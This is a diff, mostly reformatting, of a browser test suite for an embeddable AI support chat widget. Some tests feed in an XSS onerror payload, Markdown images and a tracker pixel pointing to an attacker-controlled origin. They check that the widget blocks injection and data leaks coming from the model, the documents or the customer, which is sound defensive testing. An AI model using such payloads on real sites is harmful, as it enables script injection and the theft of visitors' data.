@@ -1,5 +1,6 @@
 """The website widget in a real chromium, embedded in a customer page served from another
 port, talking to the real Prompteur server whose model is scripted (see conftest)."""
+
 from __future__ import annotations
 
 import json
@@ -14,9 +15,11 @@ from tests.conftest import LiveServer
 pytestmark = pytest.mark.browser
 
 STARTER = "How do I return an item?"
-RETURN_ANSWER = ("You can return any item within **30 days** of delivery.\n\n"
-                 "1. Open *My orders*\n2. Click `Return`\n3. Print the label and drop the parcel off.\n\n"
-                 "See [our returns policy](https://shop.example/returns) or write to [support](mailto:help@shop.example).")
+RETURN_ANSWER = (
+    "You can return any item within **30 days** of delivery.\n\n"
+    "1. Open *My orders*\n2. Click `Return`\n3. Print the label and drop the parcel off.\n\n"
+    "See [our returns policy](https://shop.example/returns) or write to [support](mailto:help@shop.example)."
+)
 WIDGET = "prompteur-widget"
 
 
@@ -54,14 +57,17 @@ def stored_session(page, bot_id: str) -> dict | None:
 def conversation(deployment, page, bot_id: str) -> dict:
     """What the server stored, read through the public API with the widget's own token."""
     s = stored_session(page, bot_id)
-    r = httpx.get(f"{deployment.url}/v1/bots/{bot_id}/conversations/{s['conversation_id']}",
-                  headers={"Authorization": f"Bearer {s['token']}"})
+    r = httpx.get(
+        f"{deployment.url}/v1/bots/{bot_id}/conversations/{s['conversation_id']}",
+        headers={"Authorization": f"Bearer {s['token']}"},
+    )
     assert r.status_code == 200, r.text
     return r.json()
 
 
 def test_customer_asks_gets_a_streamed_cited_answer_and_keeps_it_across_pages(
-        browser, deployment, site, scripted_model, artifacts):
+    browser, deployment, site, scripted_model, artifacts
+):
     site.pages["/"] = embed_page(deployment.url, deployment.bot_id, deployment.key)
     site.pages["/other"] = embed_page(deployment.url, deployment.bot_id, deployment.key, title="Another page")
     scripted_model.rules = [("return", RETURN_ANSWER)]
@@ -106,7 +112,8 @@ def test_customer_asks_gets_a_streamed_cited_answer_and_keeps_it_across_pages(
     expect(cited).to_be_visible()
     # The passage's Markdown link is a link in the snippet too, not raw brackets.
     expect(cited.get_by_role("link", name="our returns policy")).to_have_attribute(
-        "href", "https://shop.example/returns")
+        "href", "https://shop.example/returns"
+    )
     expect(cited).not_to_contain_text("](")
 
     answer.get_by_role("button", name="Helpful", exact=True).click()
@@ -144,8 +151,9 @@ def test_customer_asks_gets_a_streamed_cited_answer_and_keeps_it_across_pages(
         page.get_by_role("button", name="Send request").click()
     assert handoff.value.status == 201
     expect(dialog).to_contain_text("Thanks, Ada Lovelace.")
-    deployment.assert_handoff_stored(stored_session(page, deployment.bot_id)["conversation_id"],
-                                     name="Ada Lovelace", email="ada@example.com")
+    deployment.assert_handoff_stored(
+        stored_session(page, deployment.bot_id)["conversation_id"], name="Ada Lovelace", email="ada@example.com"
+    )
 
     # New conversation starts over.
     page.get_by_role("button", name="New conversation").click()
@@ -165,8 +173,9 @@ def test_phone_sized_screen_gets_a_full_screen_panel(browser, deployment, site, 
     site.pages["/"] = embed_page(deployment.url, deployment.bot_id, deployment.key)
     scripted_model.rules = [("return", RETURN_ANSWER)]
     scripted_model.pause_on = None
-    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True,
-                                  device_scale_factor=2)
+    context = browser.new_context(
+        viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True, device_scale_factor=2
+    )
     page = open_page(context, site.origin + "/")
     page.get_by_role("button", name="Open chat").tap()
     panel = page.get_by_role("dialog")
@@ -189,7 +198,8 @@ def test_phone_sized_screen_gets_a_full_screen_panel(browser, deployment, site, 
 
 
 def test_payloads_from_the_model_the_documents_and_the_customer_do_nothing(
-        browser, deployment, site, attacker, scripted_model, artifacts):
+    browser, deployment, site, attacker, scripted_model, artifacts
+):
     site.pages["/"] = embed_page(deployment.url, deployment.bot_id, deployment.key)
     evil = payloads(attacker.origin)
     scripted_model.rules = [("warranty", "About the warranty: " + evil + " Anything else?")]
@@ -198,8 +208,9 @@ def test_payloads_from_the_model_the_documents_and_the_customer_do_nothing(
     page = open_page(context, site.origin + "/")
     page.get_by_role("button", name="Open chat").click()
     box = widget(page).locator("textarea")
-    box.fill("What does the warranty cover? <img src=x onerror=\"window.__pwned='input'\"> "
-             f"![y]({attacker.origin}/leak3)")
+    box.fill(
+        f"What does the warranty cover? <img src=x onerror=\"window.__pwned='input'\"> ![y]({attacker.origin}/leak3)"
+    )
     box.press("Enter")
     answer = widget(page).locator(".msg.bot").last
     expect(answer).to_contain_text("Anything else?")
@@ -246,7 +257,8 @@ def test_clear_states_for_too_long_and_unreachable(browser, deployment, site, sc
 
     box.fill("x" * 2001)
     expect(widget(page).locator(".counter")).to_have_text(
-        "Your message is too long (2001/2000 characters). Please shorten it.")
+        "Your message is too long (2001/2000 characters). Please shorten it."
+    )
     expect(send).to_be_disabled()
     expect(box).to_have_attribute("aria-invalid", "true")
 
@@ -267,7 +279,8 @@ def test_clear_states_for_too_long_and_unreachable(browser, deployment, site, sc
 
 
 def test_answer_cut_by_a_server_restart_reconnects_and_carries_on(
-        browser, isolated_home, site, attacker, scripted_model, artifacts):
+    browser, isolated_home, site, attacker, scripted_model, artifacts
+):
     server, deployment = start_deployment(isolated_home, site, attacker, scripted_model)
     restarted = None
     try:
@@ -360,8 +373,7 @@ def test_host_page_styles_and_widget_do_not_leak_into_each_other(browser, deploy
     context.close()
 
 
-def test_hosted_chat_page_and_iframe_follow_the_allowed_origins(
-        browser, deployment, site, scripted_model, artifacts):
+def test_hosted_chat_page_and_iframe_follow_the_allowed_origins(browser, deployment, site, scripted_model, artifacts):
     scripted_model.rules = [("return", RETURN_ANSWER)]
     scripted_model.pause_on = None
     hosted = f"{deployment.url}/chat/{deployment.bot_id}?key={deployment.key}"
@@ -371,8 +383,10 @@ def test_hosted_chat_page_and_iframe_follow_the_allowed_origins(
     page.on("console", lambda m: "Content Security Policy" in m.text and problems.append(m.text))
     page.on("pageerror", lambda e: problems.append(str(e)))
     # Chromium asks every page for /favicon.ico by itself; everything else must load.
-    page.on("response", lambda r: r.status >= 400 and not r.url.endswith("/favicon.ico")
-            and problems.append(f"{r.status} {r.url}"))
+    page.on(
+        "response",
+        lambda r: r.status >= 400 and not r.url.endswith("/favicon.ico") and problems.append(f"{r.status} {r.url}"),
+    )
     response = page.goto(hosted)
     csp = response.headers["content-security-policy"]
     assert f"frame-ancestors {site.origin}" in csp and "default-src 'none'" in csp
@@ -385,7 +399,9 @@ def test_hosted_chat_page_and_iframe_follow_the_allowed_origins(
     assert problems == []
 
     # The iframe snippet works on an allowed site and is refused everywhere else.
-    frame_html = f'<!doctype html><title>framed</title><iframe src="{hosted}" title="Chat" width="400" height="600"></iframe>'
+    frame_html = (
+        f'<!doctype html><title>framed</title><iframe src="{hosted}" title="Chat" width="400" height="600"></iframe>'
+    )
     site.pages["/framed"] = frame_html
     framed = context.new_page()
     framed.goto(site.origin + "/framed")
@@ -452,7 +468,9 @@ def test_thumbs_down_asks_for_an_optional_comment_that_is_stored(browser, deploy
     expect(answer.get_by_role("button", name="Not helpful")).to_have_attribute("aria-pressed", "true")
     # The rating counts before any comment is written.
     assert conversation(deployment, page, deployment.bot_id)["messages"][1]["feedback"] == {
-        "rating": "down", "comment": ""}
+        "rating": "down",
+        "comment": "",
+    }
     comment.fill("The label printer step is missing for parcels abroad.")
     page.screenshot(path=artifacts / "feedback-comment.png")
     with page.expect_response(lambda r: r.url.endswith("/feedback")) as sent:
@@ -464,7 +482,9 @@ def test_thumbs_down_asks_for_an_optional_comment_that_is_stored(browser, deploy
     conversation_id = stored_session(page, deployment.bot_id)["conversation_id"]
     detail = deployment.admin.get(f"/admin/bots/{deployment.bot_id}/conversations/{conversation_id}").json()
     assert detail["messages"][1]["feedback"] == {
-        "rating": "down", "comment": "The label printer step is missing for parcels abroad."}
+        "rating": "down",
+        "comment": "The label printer step is missing for parcels abroad.",
+    }
     # Changing one's mind to a thumbs-up asks nothing more.
     answer.get_by_role("button", name="Helpful", exact=True).click()
     expect(answer.get_by_role("button", name="Helpful", exact=True)).to_have_attribute("aria-pressed", "true")
@@ -475,8 +495,9 @@ def test_thumbs_down_asks_for_an_optional_comment_that_is_stored(browser, deploy
 
 def test_interrupted_answer_keeps_its_marker_after_a_reload(browser, deployment, site, scripted_model, artifacts):
     site.pages["/"] = embed_page(deployment.url, deployment.bot_id, deployment.key)
-    scripted_model.rules = [("shipping", "Standard shipping takes 3 to 5 working days; express shipping "
-                                         "takes 1 day and costs 9 euros.")]
+    scripted_model.rules = [
+        ("shipping", "Standard shipping takes 3 to 5 working days; express shipping takes 1 day and costs 9 euros.")
+    ]
     scripted_model.pause_on = None
     scripted_model.cut_on = "Standard shipping"
     try:
@@ -511,20 +532,35 @@ def images():
 
 
 def test_answer_images_load_only_from_the_bots_image_origins(
-        browser, deployment, site, attacker, images, scripted_model, artifacts):
+    browser, deployment, site, attacker, images, scripted_model, artifacts
+):
     spec = bot_spec(scripted_model.base_url, deployment.origins, "en")
     spec["widget"]["image_origins"] = [images.origin]
-    bot_id, key = deployment.publish_bot("Acme Pictures", spec, "en", documents={"labels.txt": (
-        "Parcel labels\n\nThe parcel label is a white sticker with a barcode, the return address and "
-        "your order number. Print the parcel label and stick it on the parcel.\n")})
+    bot_id, key = deployment.publish_bot(
+        "Acme Pictures",
+        spec,
+        "en",
+        documents={
+            "labels.txt": (
+                "Parcel labels\n\nThe parcel label is a white sticker with a barcode, the return address and "
+                "your order number. Print the parcel label and stick it on the parcel.\n"
+            )
+        },
+    )
     assert deployment.admin.get(f"{deployment.url}/v1/bots/{bot_id}/config").json()["image_origins"] == [images.origin]
-    scripted_model.rules = [("label", f"Here is the label: ![parcel label]({images.origin}/label.png) "
-                                      f"and ![tracker]({attacker.origin}/pixel.png?q=label)")]
+    scripted_model.rules = [
+        (
+            "label",
+            f"Here is the label: ![parcel label]({images.origin}/label.png) "
+            f"and ![tracker]({attacker.origin}/pixel.png?q=label)",
+        )
+    ]
     scripted_model.pause_on = None
     site.pages["/pictures"] = embed_page(deployment.url, bot_id, key)
     # A page may narrow the bot's list (here to nothing it allows), never widen it.
-    site.pages["/narrowed"] = embed_page(deployment.url, bot_id, key,
-                                         script_attrs=f' data-image-origins="{attacker.origin}"')
+    site.pages["/narrowed"] = embed_page(
+        deployment.url, bot_id, key, script_attrs=f' data-image-origins="{attacker.origin}"'
+    )
     context = browser.new_context(viewport={"width": 1100, "height": 760})
     page = open_page(context, site.origin + "/pictures")
     answer = ask_and_wait(page, "What does the parcel label look like?")
@@ -556,8 +592,7 @@ def test_passages_of_one_source_are_one_entry_with_each_snippet(browser, deploym
     gym = "Gym fees. " + "The PerksPlus plan pays back gym and fitness club fees up to 1000 dollars a year. " * 8
     ski = "Ski passes. " + "The PerksPlus plan also pays back ski passes and ski lessons during the winter. " * 8
     spec = bot_spec(scripted_model.base_url, deployment.origins, "en")
-    bot_id, key = deployment.publish_bot("Acme Perks", spec, "en",
-                                         documents={"perks.txt": f"{gym}\n\n{ski}\n"})
+    bot_id, key = deployment.publish_bot("Acme Perks", spec, "en", documents={"perks.txt": f"{gym}\n\n{ski}\n"})
     scripted_model.rules = [("perks", "PerksPlus pays back gym fees [1] and ski passes [2].")]
     scripted_model.pause_on = None
     site.pages["/perks"] = embed_page(deployment.url, bot_id, key)
